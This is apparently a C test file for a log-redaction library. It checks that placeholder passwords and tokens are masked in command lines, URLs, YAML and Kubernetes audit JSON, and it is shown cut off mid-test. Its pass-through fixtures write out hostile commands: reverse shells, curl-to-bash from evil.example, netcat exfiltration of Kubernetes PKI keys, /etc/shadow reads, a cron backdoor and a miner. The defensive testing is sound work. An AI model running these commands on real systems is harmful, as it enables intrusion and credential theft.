/* SPDX-License-Identifier: Apache-2.0 */
/* What must go and what must stay, a line each. The secret is s3cretX, always; in what must stay nothing may be changed. */
#include "harrier/redact.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

struct line {
    const char *text;
    const char *stays; /* beside the secret; NULL: does not matter */
};

/* --- texts: command lines, addresses, answers, YAML ---------------------------------------------------------------------------------------------- */

static const struct line texts_that_go[] = {
    {"mysql --password=a,s3cretX -h db", "] -h db"},
    {"PASSWORD=a\\ s3cretX ./run", "] ./run"},
    {"PASSWORD=a'b c'\"s3cretX\" ./run", "./run"},
    {"export PASSWORD:=s3cretX", "PASSWORD:="},
    {"password => s3cretX", "password => "},
    {"PASSWORD ?= s3cretX", "PASSWORD ?= "},
    {"PASSWORD+=s3cretX", "PASSWORD+="},
    {"echo ${PASSWORD:-s3cretX}", "echo ${PASSWORD:-"},
    {"PASSWORD=$'s3cretX' run", "run"},
    {"--password=\"a\"s3cretX --verbose", "--verbose"},
    {"--password='$s3cretX' --verbose", "--verbose"},
    {"--password=***s3cretX", "--password="},
    {"--password={{s3cretX", "--password="},
    {"--password=$(A)s3cretX", "--password="},
    {"--password=a}s3cretX -x", "-x"},
    {"mysql -u root -ps3cretX -h db mydb", "-h db mydb"},
    {"mysqldump -ps3cretX! --all-databases", "--all-databases"},
    {"/usr/bin/mysql -p's3cretX' -e 'select 1'", "-e 'select 1'"},
    {"sshpass -p s3cretX ssh root@10.0.0.1 id", "ssh root@10.0.0.1 id"},
    {"sshpass -ps3cretX ssh root@10.0.0.1", "ssh root@10.0.0.1"},
    {"redis-cli -h r -a s3cretX KEYS '*'", "KEYS '*'"},
    {"docker login -u bob -p s3cretX registry.example", "registry.example"},
    {"mongosh -u admin -p s3cretX --eval x", "--eval x"},
    {"ldapsearch -D cn=admin -w s3cretX -b dc=x", "-b dc=x"},
    {"smbclient -U 'bob%s3cretX' //host/share", "//host/share"},
    {"echo root:s3cretX | chpasswd", "echo root:["},
    {"echo 'root:s3cretX' | sudo chpasswd -e", "| sudo chpasswd -e"},
    {"chpasswd <<< root:s3cretX; id", "chpasswd <<< root:"},
    {"echo s3cretX | docker login --password-stdin r", "| docker login --password-stdin r"},
    {"echo s3cretX | sudo -S id", "| sudo -S id"},
    {"curl -uadmin:s3cretX https://x", "https://x"},
    {"curl --user admin:s3cretX https://x", "--user admin:"},
    {"curl --user=admin:s3cretX https://x", "https://x"},
    {"curl -x http://p --proxy-user 'a:s3cretX' https://x", "https://x"},
    {"curl -H Authorization:s3cretX http://x/y", "http://x/y"},
    {"curl -H \"AUTHORIZATION: bearer s3cretX\" http://x", "http://x"},
    {"curl -H 'PRIVATE-TOKEN: s3cretX' http://x", "http://x"},
    {"kubectl create secret generic x --from-literal=k=s3cretX -n y", "--from-literal=k="},
    {"docker run -e DB=s3cretX -v /:/host alpine", "-v /:/host alpine"},
    {"docker run --env A=s3cretX --privileged alpine", "--privileged alpine"},
    {"SSHPASS=s3cretX sshpass -e ssh h", "sshpass -e ssh h"},
    {"vault login s3cretX", "vault login "},
    {"cat <<EOF | chpasswd\nroot:s3cretX\nEOF", "cat <<EOF | chpasswd\nroot:"},
    {"npm config set //r/:_authToken s3cretX", "npm config set //r/:_authToken "},
    {"Data Source=h;User ID=sa;Pwd=s3cretX;", "User ID=sa;Pwd="},
    {"password -> s3cretX", "password -> "},
    {"Authorization: Digest username=\"a\", response=\"s3cretX\"", "Authorization: Digest "},
    {"command:\n- mysql\n- -ps3cretX\n- -h\n", "- -h"},
    {"- value: s3cretX\n  name: A\n", "  name: A"},
    {"spec.password: Invalid value: map[string]interface {}{\"a\":\"s3cretX\"}: no", ": no"},
    {"redis-cli config set requirepass s3cretX", "requirepass ["},
    {"psql -c \"ALTER USER bob PASSWORD 's3cretX'\"", "ALTER USER bob PASSWORD '"},
    {"mysql -e \"CREATE USER x IDENTIFIED BY 's3cretX'\"", "IDENTIFIED BY '"},
    {"machine h login bob password s3cretX", "machine h login bob password "},
    {"aws configure set aws_secret_access_key s3cretX", "aws_secret_access_key "},
    {"curl -d '<password>s3cretX</password>' http://x", "http://x"},
    {"\xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84=s3cretX", NULL},
    {"\xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84\xef\xbc\x9as3cretX", NULL},
    {"git clone https://s3cretX@github.com/x/y", "@github.com/x/y"},
    {"git clone https://bob:s3cretX@github.com/x/y", "https://bob:"},
    {"git clone https://bob:a/s3cretX@github.com/x/y", "@github.com/x/y"},
    {"git clone https://s3cretX:x-oauth-basic@github.com/x", "@github.com/x"},
    {"curl https:\\/\\/bob:s3cretX@h", "@h"},
    {"redis://:s3cretX@redis:6379/0", "@redis:6379/0"},
    {"DATABASE_URL=postgres://app:p@s3cretX@db:5432/x", "@db:5432/x"},
    {"DSN app:s3cretX@tcp(db:3306)/x", "@tcp(db:3306)/x"},
    {"jdbc:oracle:thin:scott/s3cretX@//db:1521/x", "@//db:1521/x"},
    {"jdbc:mysql://db/x?user=a&password=s3cretX&ssl=true", "&ssl=true"},
    {"Server=db;User Id=sa;Password=s3cretX;Encrypt=yes", ";Encrypt=yes"},
    {"curl https://hooks.slack.com/services/T0/B0/s3cretX -d x", "-d x"},
    {"curl https://discord.com/api/webhooks/1/s3cretX -d x", "-d x"},
    {"curl https://x.webhook.office.com/webhookb2/s3cretX -d x", "-d x"},
    {"curl https://api.telegram.org/bots3cretX/sendMessage -d x", "api.telegram.org/bot["},
    {"use 123456789:AAs3cretX0123456789abcdefABCDEF0123456 now", " now"},
    {"/exec?command=mysql&command=-ps3cretX&command=-h", "&command=-h"},
    {"/exec?command=sshpass&command=-p&command=s3cretX&command=ssh", "&command=ssh"},
    {"/exec?command=curl&command=https%3A%2F%2Fhooks.slack.com%2Fservices%2Fs3cretX", "hooks.slack.com%2Fservices%2F"},
    {"[\"curl\",\"-u\",\"admin:s3cretX\",\"https://x\"", "https://x"},
    {"[\"mysql\",\"--password\",\"$s3cretX\",\"-h\"", "-h"},
    {"[\"sshpass\",\"-p\",\"s3cretX\",\"ssh\"", "ssh"},
    {"args:\n  - --token\n  - s3cretX\n  - --verbose\n", "- --verbose"},
    {"spec.password: Invalid value: \"s3cretX\": too short", ": too short"},
    {"spec.data[x]: Unsupported value: \"s3cretX\": supported values: \"a\", \"b\"", "supported values: \"a\", \"b\""},
    {"spec.env[1].name: Duplicate value: \"ok\" spec.x: Duplicate value: \"s3cretX\"", "Duplicate value: \"ok\""},
    {"spec.pin: Invalid value: 12s3cretX: must be a number", ": must be a number"},
    {"spec: Invalid value: core.EnvVar{Name:\"A\", Value:\"s3cretX\"}: no", ": no"},
    {"spec: Forbidden: core.PodSpec{Env:[]core.EnvVar{core.EnvVar{Name:\"A\", Value:\"s3cretX\"}}}", "Name:\"A\""},
    {"error found in #10 byte of ...|ata\":{\"k\":s3cretX}|..., bigger context ...|{\"data\":{\"k\":s3cretX}}|...", "bigger context"},
    {"strconv.ParseInt: parsing \"s3cretX\": invalid syntax", ": invalid syntax"},
    {"- name: X\n  value: s3cretX\n- name: Y\n", "- name: Y"},
    {"env:\n- name: X\n  value: \"s3cretX\"\n  image: nginx\n", "name: X"},
    {"env:\n  A: s3cretX\nimage: nginx\n", "image: nginx"},
    {"environment:\n  - A=s3cretX\nimage: nginx\n", "- A="},
    {"password:\n  s3cretX\nimage: nginx\n", "image: nginx"},
    {"password: correct horse s3cretX\nimage: nginx\n", "image: nginx"},
    {"password:\n  plain: s3cretX\nimage: nginx\n", "image: nginx"},
    {"\"password\": s3cretX\nimage: nginx\n", "image: nginx"},
    {"\"password\": >-\n  s3cretX\nimage: nginx\n", "image: nginx"},
    {"\"data\":\n  a: s3cretX\nimage: nginx\n", "image: nginx"},
    {"stringData: {a: s3cretX}\nimage: nginx\n", "image: nginx"},
    {"  example.com/api-token: s3cretX\n  image: nginx\n", "image: nginx"},
    {"users:\n- name: x\n  user:\n    token: s3cretX\n    client-key-data: s3cretX\n", "name: x"},
    {"kubectl patch x -p '[{\"op\":\"add\",\"path\":\"/data/x\",\"value\":\"s3cretX\"}]'", "\"path\":\"/data/x\""},
    {"kubectl run x --overrides='{\"env\":[{\"name\":\"A\",\"value\":\"s3cretX\"}]}' --image=kali", "--image=kali"},
    {"{'auths': {'r': {'auth': 's3cretX'}}}", "'r'"},
    {"connString=s3cretX", "connString="},
    {"webhookUrl: s3cretX", "webhookUrl: "},
    {"rootCAKey=s3cretX", "rootCAKey="},
    {"cert.key: s3cretX", "cert.key: "},
    {"userPin=s3cretX seed=s3cretX passkey=s3cretX", " passkey="},
    {"licence-key: s3cretX", "licence-key: "},
    {"password=\"length 1, s3cretX\"", NULL},
    {"-----BEGIN OPENSSH PRIVATE KEY-----\\ns3cretX\\n-----END OPENSSH PRIVATE KEY-----", NULL},
    {"echo eyJhdXRocyI6s3cretX | base64 -d", "| base64 -d"},
    {"openssl enc -aes-256-cbc -pass pass:s3cretX -in x", "-in x"},
    {"kubeadm join --token abcdef.0123456789abs3cretX", "kubeadm join --token "},
};

static const char *const texts_that_stay[] = {
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "sh -c 'curl -s http://evil.example/x.sh | bash -s -- -p 4444 -u root'",
    "docker run -p 80:80 -u 1000:1000 --privileged -v /:/host alpine chroot /host",
    "docker run -u www-data:www-data nginx",
    "nc -p 4444 -e /bin/sh 10.0.0.1",
    "ssh -p 2222 root@10.0.0.1 'cat /etc/shadow'",
    "psql -h db -p 5432 -U app",
    "mysql -h db -P 3306 -u root mydb -p",
    "redis-cli -h r -p 6379 CONFIG SET dir /root/.ssh",
    "mkdir -p /host/etc/cron.d && echo '* * * * * root curl evil|sh' > /host/etc/cron.d/x",
    "tar -czf - /etc/kubernetes/pki | nc evil 80",
    "echo test | tee /proc/sys/kernel/core_pattern",
    "printf '%s' x | base64 -d | sh",
    "echo root | grep x",
    "mysql --password=$DB_PASSWORD --host=$DB_HOST",
    "mysql --password=${DB_PASSWORD} -p$PASS",
    "--password=$(DB_PASSWORD)",
    "curl --token `cat /t` --password $pass2",
    "curl -u $USER:$PASS https://x",
    "curl -u \"$CREDS\" https://x",
    "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) kubectl get secrets -A -o yaml",
    "curl -H \"Authorization: Bearer $(cat /run/token)\" https://kubernetes.default/api",
    "kubectl --kubeconfig=/etc/kubernetes/admin.conf get pods",
    "kubectl --kubeconfig /root/.kube/config exec -it x -- sh",
    "KUBECONFIG=/etc/kubernetes/admin.conf kubectl get nodes",
    "GOOGLE_APPLICATION_CREDENTIALS=/var/secrets/key.json gcloud auth list",
    "kube-apiserver --client-key=/etc/kubernetes/pki/client.key --tls-private-key-file=/etc/kubernetes/pki/tls.key",
    "aws secretsmanager get-secret-value --secret-id prod/db",
    "vault kv get secret/prod/db",
    "find / -name id_rsa -o -name '*.kubeconfig'",
    "grep -ri password /host/etc",
    "cat /host/root/.docker/config.json",
    "kubectl get secret db -o jsonpath={.data.password}",
    "git clone https://git@github.com/x/y",
    "git clone git@github.com:x/y.git",
    "git clone ssh://deploy@git.example/x",
    "image: registry.example:5000/team/app:1.2@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    "registry.example:5000/x@sha256:0123",
    "wget http://evil.example:8080/a@b",
    "https://evil.example/?email=a@b.example",
    "https://discord.com/channels/1/2",
    "https://api.telegram.org/",
    "https://kubernetes.default.svc:443/api",
    "pods \"x\" is forbidden: User \"eve\" cannot create resource \"pods\" in API group \"\" in the namespace \"default\"",
    "spec.containers[0].image: Invalid value: \"evil example/miner\": must not contain blanks",
    "spec.template.spec.containers[0].volumeMounts[0].mountPath: Invalid value: \"/proc:x\": no",
    "spec.hostNetwork: Invalid value: true: no",
    "pods \"x\" not found",
    "violates PodSecurity \"restricted:latest\": hostPath volumes (volume \"x\")",
    "secrets \"db-password\" already exists",
    "Get \"https://10.0.0.1:6443/api/v1/namespaces/default/serviceaccounts/default/token\": dial tcp: refused",
    "system:serviceaccount:kube-system:token-cleaner",
    "system:bootstrap:abcdef",
    "volumes:\n- name: x\n  secret:\n    secretName: db\n    items:\n    - key: tls.key\n      path: tls.key\n",
    "env:\n- name: A\n  valueFrom:\n    secretKeyRef:\n      name: db\n      key: password\n",
    "imagePullSecrets:\n- name: regcred\n",
    "env: production",
    "{\"env\":\"prod\"}",
    "labels: app=x, environment=prod",
    "automountServiceAccountToken: false",
    "secretName: db",
    "tokenExpirationSeconds: 3600",
    "name: X\nimage: evil/miner\ncommand: [sh, -c]\n",
    "name: A\nvalue: $(OTHER)\n",
    "kubectl patch x -p '[{\"op\":\"replace\",\"path\":\"/spec/containers/0/image\",\"value\":\"evil/miner\"}]'",
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K",
    "LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0K",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
    "xmrig -o stratum+tcp://pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k",
    "id -u root:root",
    "ps aux | grep passwd: | head",
    "spinner: dots",
    "bypass=1",
    "password=********",
    "PWD=/root OLDPWD=/tmp ls",
    "kubectl get secret db-password -n prod",
    "set -eu; curl evil|sh",
    "user: alice",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
    "/api/v1/namespaces/default/pods/x/exec?command=sh&command=-c&command=cat+/etc/shadow&stdin=true",
    "kubectl/v1.34.9 (linux/amd64) kubernetes/ba6535c",
};

/* --- trees ------------------------------------------------------------------------------------------------------------------------------------------ */

static const struct line trees_that_go[] = {
    {"{\"requestObject\":{\"command\":[\"curl\",\"-u\",\"admin:s3cretX\",\"https://x\"]}}", "\"admin:["},
    {"{\"requestObject\":{\"command\":[\"mysql\",\"-ps3cretX\",\"-h\",\"db\"]}}", "\"-p["},
    {"{\"requestObject\":{\"command\":[\"mysql\"],\"args\":[\"-ps3cretX\",\"-h\",\"db\"]}}", "\"db\""},
    {"{\"requestObject\":{\"command\":[\"sshpass\",\"-p\",\"s3cretX\",\"ssh\",\"x\"]}}", "\"ssh\""},
    {"{\"requestObject\":{\"command\":[\"redis-cli\",\"-a\",\"s3cretX\",\"KEYS\"]}}", "\"KEYS\""},
    {"{\"requestObject\":{\"args\":[\"--password\",\"$s3cretX\",\"--verbose\"]}}", "--verbose"},
    {"{\"requestObject\":{\"command\":[\"docker\",\"run\",\"-e\",\"A=s3cretX\",\"kali\"]}}", "\"A=["},
    {"{\"requestObject\":{\"command\":[\"sh\",\"-c\",\"echo root:s3cretX | chpasswd\"]}}", "| chpasswd"},
    {"{\"requestObject\":{\"spec\":{\"password\":{\"plain\":\"s3cretX\"},\"image\":\"kali\"}}}", "kali"},
    {"{\"requestObject\":{\"spec\":{\"password\":[{\"a\":{\"b\":\"s3cretX\"}}]}}}", NULL},
    {"{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/password\",\"value\":{\"plain\":\"s3cretX\"}}]}", "/spec/password"},
    {"{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/password\",\"value\":[{\"a\":\"s3cretX\"}]}]}", "/spec/password"},
    {"{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/password/plain\",\"value\":\"s3cretX\"}]}", "/spec/password"},
    {"{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/environment/A\",\"value\":\"s3cretX\"}]}", "/spec/environment/A"},
    {"{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/extraEnv/-\",\"value\":\"A=s3cretX\"}]}", "\"A=["},
    {"{\"requestObject\":{\"env\":[\"A=s3cretX\"]}}", "\"A=["},
    {"{\"requestObject\":{\"env\":\"A=s3cretX B=s3cretX\"}}", "\"A=["},
    {"{\"requestObject\":{\"env\":{\"A\":{\"value\":\"s3cretX\"}}}}", "\"A\""},
    {"{\"requestObject\":{\"env\":{\"name\":\"s3cretX\",\"user\":\"s3cretX\"}}}", NULL},
    {"{\"requestObject\":{\"env\":[{\"A\":\"s3cretX\"}]}}", "\"A\""},
    {"{\"requestObject\":{\"env\":[[\"A\",\"s3cretX\"]]}}", NULL},
    {"{\"requestObject\":{\"envVars\":[{\"name\":\"A\",\"value\":\"s3cretX\"}]}}", "\"A\""},
    {"{\"requestObject\":{\"extraEnv\":{\"A\":\"s3cretX\"}}}", "\"A\""},
    {"{\"requestObject\":{\"environmentVariables\":{\"A\":\"s3cretX\"}}}", "\"A\""},
    {"{\"requestObject\":{\"container_env\":[{\"name\":\"A\",\"value\":\"s3cretX\"}]}}", "\"A\""},
    {"{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":[{\"op\":\"add\",\"path\":\"/x\",\"value\":\"s3cretX\"}]}", "\"/x\""},
    {"{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":[{\"op\":\"add\",\"path\":\"/metadata/annotations/x\",\"value\":\"s3cretX\"}]}", NULL},
    {"{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":{\"x\":{\"y\":\"s3cretX\"},\"metadata\":{\"name\":\"kept\"}}}", "kept"},
    {"{\"objectRef\":{\"resource\":\"secrets\"},\"responseObject\":{\"kind\":\"Table\",\"rows\":[{\"cells\":[\"s3cretX\",1],\"object\":{\"metadata\":{\"name\":\"kept\"}}}]}}", "kept"},
    {"{\"objectRef\":{\"resource\":\"secrets\"},\"responseObject\":{\"kind\":\"Table\",\"rows\":[{\"object\":{\"x\":\"s3cretX\",\"data\":{\"a\":\"s3cretX\"}}}]}}", NULL},
    {"{\"responseObject\":{\"kind\":\"SecretList\",\"items\":[{\"metadata\":{\"name\":\"kept\"},\"x\":\"s3cretX\"}]}}", "kept"},
    {"{\"responseObject\":{\"kind\":\"List\",\"items\":[{\"kind\":\"Secret\",\"Type\":\"Opaque\",\"x\":[\"s3cretX\"]}]}}", "Opaque"},
    {"{\"requestObject\":{\"kind\":\"TokenReview\",\"spec\":{\"token\":\"s3cretX\"}}}", "TokenReview"},
    {"{\"responseObject\":{\"kind\":\"TokenRequest\",\"status\":{\"token\":\"s3cretX\",\"expirationTimestamp\":\"kept\"}}}", "kept"},
    {"{\"responseStatus\":{\"message\":\"X is invalid: spec.password: Invalid value: \\\"s3cretX\\\": no\"}}", "X is invalid"},
    {"{\"responseObject\":{\"details\":{\"causes\":[{\"message\":\"Invalid value: \\\"s3cretX\\\": no\",\"field\":\"spec.password\"}]}}}", "spec.password"},
    {"{\"responseObject\":{\"details\":{\"causes\":[{\"message\":\"Duplicate value: \\\"s3cretX\\\"\",\"field\":\"spec.x\"}]}}}", "spec.x"},
    {"{\"requestObject\":{\"spec\":{\"yaml\":\"- name: X\\n  value: s3cretX\\n\"}}}", "name: X"},
    {"{\"requestObject\":{\"args\":[\"config\",\"set\",\"requirepass\",\"s3cretX\"]}}", "requirepass"},
    {"{\"responseObject\":{\"kind\":\"Table\",\"rows\":[{\"cells\":[\"s3cretX\"],\"object\":{\"kind\":\"Secret\"}}]}}", "\"Table\""},
    {"{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":{\"metadata\":{\"name\":\"kept\",\"annotations\":{\"x\":\"s3cretX\"}}}}", "kept"},
    {"{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":\"s3cretX\",\"responseObject\":[\"s3cretX\"]}", NULL},
    {"{\"responseObject\":{\"details\":{\"causes\":[{\"message\":\"bad s3cretX\",\"field\":\"spec.env[0].value\"}]}}}", "spec.env[0].value"},
    {"{\"requestObject\":{\"data\":[\"s3cretX\"]}}", NULL},
    {"{\"requestObject\":{\"spec\":{\"connString\":\"s3cretX\",\"connection_string\":\"s3cretX\",\"CONNECTION-URI\":\"s3cretX\"}}}", "connection_string"},
    {"{\"requestObject\":{\"spec\":{\"webhookUrl\":\"https://x/s3cretX\",\"slack_webhook\":\"s3cretX\",\"kubeconfig\":\"s3cretX\"}}}", "slack_webhook"},
    {"{\"requestObject\":{\"spec\":{\"basicAuth\":\"s3cretX\",\"cert.key\":\"s3cretX\",\"rootCAKey\":\"s3cretX\",\"pin\":\"s3cretX\",\"seed\":\"s3cretX\"}}}", "rootCAKey"},
    {"{\"requestObject\":{\"spec\":{\"PASSPHRASE\":\"s3cretX\",\"pass-key\":\"s3cretX\",\"licence_key\":\"s3cretX\",\"licenseKey\":\"s3cretX\",\"LICENSE-KEY\":\"s3cretX\"}}}", "LICENSE-KEY"},
    {"{\"requestObject\":{\"spec\":{\"\xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84\":\"s3cretX\"}}}", NULL},
    {"{\"requestObject\":{\"spec\":{\"databaseUrl\":\"postgres://a:s3cretX@db/x\",\"SENTRY_DSN\":\"https://s3cretX@sentry.example/1\"}}}", "@db/x"},
    {"{\"requestObject\":{\"spec\":{\"auth\":{\"plain\":\"s3cretX\"},\"credentials\":{\"inner\":{\"deep\":\"s3cretX\"}}}}}", "credentials"},
    {"{\"requestObject\":{\"spec\":{\"secret\":{\"url\":\"https://u:s3cretX@h\",\"secretName\":\"kept\"}}}}", "kept"},
    {"{\"requestObject\":{\"spec\":{\"note\":\"see https://hooks.slack.com/services/T/B/s3cretX\"}}}", "see https://hooks.slack.com"},
};

static const char *const trees_that_stay[] = {
    "{\"requestObject\":{\"spec\":{\"volumes\":[{\"name\":\"v\",\"secret\":{\"secretName\":\"db\",\"items\":[{\"key\":\"tls.key\",\"path\":\"tls.key\",\"mode\":420}],\"optional\":true}}]}}}",
    "{\"requestObject\":{\"spec\":{\"volumes\":[{\"projected\":{\"sources\":[{\"serviceAccountToken\":{\"path\":\"token\",\"expirationSeconds\":3607}},{\"secret\":{\"name\":\"x\"}}]}}]}}}",
    "{\"requestObject\":{\"spec\":{\"env\":[{\"name\":\"DB_PASSWORD\",\"valueFrom\":{\"secretKeyRef\":{\"name\":\"db\",\"key\":\"password\"}}}]}}}",
    "{\"requestObject\":{\"spec\":{\"env\":[{\"name\":\"IP\",\"valueFrom\":{\"fieldRef\":{\"apiVersion\":\"v1\",\"fieldPath\":\"status.podIP\"}}}]}}}",
    "{\"requestObject\":{\"spec\":{\"env\":[{\"name\":\"A\",\"value\":\"$(DB_PASSWORD)\"}],\"envFrom\":[{\"secretRef\":{\"name\":\"db\"}}]}}}",
    "{\"requestObject\":{\"metadata\":{\"labels\":{\"env\":\"prod\",\"environment\":\"staging\"}}}}",
    "{\"requestObject\":{\"spec\":{\"imagePullSecrets\":[{\"name\":\"regcred\"}],\"automountServiceAccountToken\":true}}}",
    "{\"requestObject\":{\"spec\":{\"pullSecrets\":[\"regcred\"],\"tls\":[{\"hosts\":[\"x\"],\"secretName\":\"tls\"}]}}}",
    "{\"requestObject\":{\"image\":\"evil/miner:1\",\"command\":[\"sh\",\"-c\",\"curl evil|sh\"],\"args\":[\"-p\",\"4444\",\"-u\",\"root\"]}}",
    "{\"requestObject\":{\"command\":[\"docker\",\"run\",\"-u\",\"0:0\",\"-p\",\"80:80\",\"--privileged\",\"alpine\"]}}",
    "{\"requestObject\":{\"command\":[\"mysql\",\"--password\",\"$(DB_PASSWORD)\",\"-h\",\"db\"]}}",
    "{\"requestObject\":{\"command\":[\"mysql\",\"--password\",\"-h\",\"db\"]}}",
    "{\"requestObject\":{\"command\":[\"kubelet\",\"--kubeconfig\",\"/etc/kubernetes/kubelet.conf\",\"--tls-key\",\"/etc/tls.key\"]}}",
    "{\"requestObject\":[{\"op\":\"replace\",\"path\":\"/spec/containers/0/image\",\"value\":\"evil/miner\"}]}",
    "{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/volumes/0/secret/secretName\",\"value\":\"db\"}]}",
    "{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/containers/0/env/0/valueFrom/secretKeyRef/name\",\"value\":\"db\"}]}",
    "{\"requestObject\":[{\"op\":\"add\",\"path\":\"/spec/containers/0/command\",\"value\":[\"sh\",\"-c\",\"curl evil|sh\"]}]}",
    "{\"requestObject\":{\"kind\":\"Certificate\",\"spec\":{\"privateKey\":{\"algorithm\":\"RSA\",\"size\":2048,\"rotationPolicy\":\"Always\"},\"secretName\":\"x\"}}}",
    "{\"requestObject\":{\"kind\":\"CertificateSigningRequest\",\"spec\":{\"request\":\"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K\",\"signerName\":\"x\"}}}",
    "{\"requestObject\":{\"metadata\":{\"ownerReferences\":[{\"kind\":\"Secret\",\"name\":\"x\",\"apiVersion\":\"v1\",\"uid\":\"u\"}]}}}",
    "{\"objectRef\":{\"resource\":\"secrets\",\"name\":\"db\"},\"responseStatus\":{\"code\":404,\"reason\":\"NotFound\"},\"responseObject\":{\"kind\":\"Status\",\"reason\":\"NotFound\",\"details\":{\"name\":\"db\",\"kind\":\"secrets\"},\"code\":404}}",
    "{\"requestObject\":{\"kind\":\"Secret\",\"type\":\"kubernetes.io/service-account-token\",\"metadata\":{\"name\":\"x\",\"annotations\":{\"kubernetes.io/service-account.name\":\"admin\"}}}}",
    "{\"requestObject\":{\"command\":[\"kubectl\",\"get\",\"secret\",\"db\",\"-o\",\"yaml\"]}}",
    "{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":{\"kind\":\"DeleteOptions\",\"propagationPolicy\":\"Background\"}}",
    "{\"responseObject\":{\"kind\":\"Table\",\"rows\":[{\"cells\":[\"pod-1\",\"1/1\",\"Running\",0]}]}}",
    "{\"responseObject\":{\"kind\":\"Status\",\"message\":\"x\",\"details\":{\"causes\":[{\"message\":\"Invalid value: \\\"evil miner\\\": no\",\"field\":\"spec.containers[0].image\"}]}}}",
    "{\"responseStatus\":{\"message\":\"pods \\\"x\\\" is forbidden: User \\\"eve\\\" cannot create resource\"}}",
    "{\"user\":{\"username\":\"system:serviceaccount:a:b\",\"extra\":{\"authentication.kubernetes.io/credential-id\":[\"JTI=x\"]}}}",
    "{\"requestObject\":{\"rules\":[{\"resources\":[\"secrets\",\"pods/exec\"],\"verbs\":[\"get\"]}]}}",
};

/* --- the tests -------------------------------------------------------------------------------------------------------------------------------------- */

static char *shown_text(const char *text)
{
    struct arena *arena = arena_new(1024);
    struct buffer out = {NULL, 0, 0};

    buffer_append_slice(&out, redact_text(arena, slice_of(text)));
    arena_free(arena);
    return buffer_take(&out);
}

static char *written(const char *text, bool redacts)
{
    struct arena *arena = arena_new(4096);
    struct buffer out = {NULL, 0, 0};
    struct json_node *tree;

    if (json_tree_parse(arena, slice_of(text), &json_default_limits, &tree, NULL) != RESULT_OK)
        fail_msg("no JSON: %s", text);
    if (redacts)
        redact_event(arena, tree);
    struct json_writer *writer = json_writer_new(&out, false);
    json_write_node(writer, tree);
    json_writer_free(writer);
    arena_free(arena);
    return buffer_take(&out);
}

static unsigned int wrong;

static void check_gone(const struct line *line, char *out)
{
    if (strstr(out, "s3cretX") || !strstr(out, "hmac ") || (line->stays && !strstr(out, line->stays))) {
        print_error("`%s`\n  became `%s`\n", line->text, out);
        wrong++;
    }
    free(out);
}

static void check_same(char *out, const char *text)
{
    if (strcmp(out, text)) {
        print_error("`%s`\n  became `%s`\n", text, out);
        wrong++;
    }
    free(out);
}

#define COUNT(table) (sizeof(table) / sizeof *(table))

static void test_secrets_in_texts_go_and_what_stands_beside_them_stays(void **state)
{
    (void)state;
    wrong = 0;
    for (size_t i = 0; i < COUNT(texts_that_go); i++)
        check_gone(&texts_that_go[i], shown_text(texts_that_go[i].text));
    assert_int_equal(wrong, 0);
}

static const char *next_word(const char *word)
{
    word += strcspn(word, " ");
    return word + (*word == ' ');
}

/* The programs of each option are found, whatever the order of their table. */
static void test_every_program_that_takes_a_password_by_a_short_option_is_known(void **state)
{
    static const struct {
        const char *programs, *words;
    } rows[] = {
        {"mysql mysqldump mysqladmin mysqlimport mysqlcheck mysqlshow mysqlslap mysqlsh mysqlbinlog mycli mariadb mariadb-dump mariadb-admin", " -ps3cretX"},
        {"7z 7za 7zr rar unrar sshpass", " -ps3cretX"},
        {"mongo mongosh mongodump mongorestore mongoexport mongoimport mongostat", " -p s3cretX"},
        {"crackmapexec netexec nxc smbmap evil-winrm rdesktop xfreerdp ipmitool hydra useradd usermod groupadd", " -p s3cretX"},
        {"redis-cli keydb-cli valkey-cli", " -a s3cretX"},
        {"docker podman nerdctl helm crane skopeo oras buildah regctl az oc cf argocd kubectl", " login -p s3cretX"},
        {"docker podman nerdctl buildah", " run -e A=s3cretX"},
        {"ldapsearch ldapmodify ldapadd ldapdelete ldappasswd ldapwhoami ldapcompare ldapmodrdn", " -w s3cretX"},
        {"sqlcmd osql bcp isql tsql ipmitool zip unzip mosquitto_pub mosquitto_sub mqtt", " -P s3cretX"},
        {"smbclient smbget rpcclient net winexe wmic nmblookup", " -U bob%s3cretX"},
        {"snmpget snmpwalk snmpset snmpbulkwalk", " -c s3cretX"},
        {"http https xh", " -a bob:s3cretX"},
        {"openssl", " enc -k s3cretX"},
        {"curl", " -U bob:s3cretX"},
    };
    (void)state;
    wrong = 0;
    for (size_t i = 0; i < COUNT(rows); i++)
        for (const char *program = rows[i].programs; *program; program = next_word(program)) {
            char text[100];
